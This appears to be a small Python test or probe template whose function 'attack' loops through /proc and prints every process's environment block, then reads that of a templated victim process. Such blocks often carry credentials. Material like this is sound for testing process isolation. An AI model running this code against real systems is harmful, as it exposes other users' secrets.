import os


def attack():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            print(open(f"/proc/{pid}/environ", "rb").read())
        except OSError:
            pass
    print(open("/proc/@VICTIM@/environ", "rb").read())
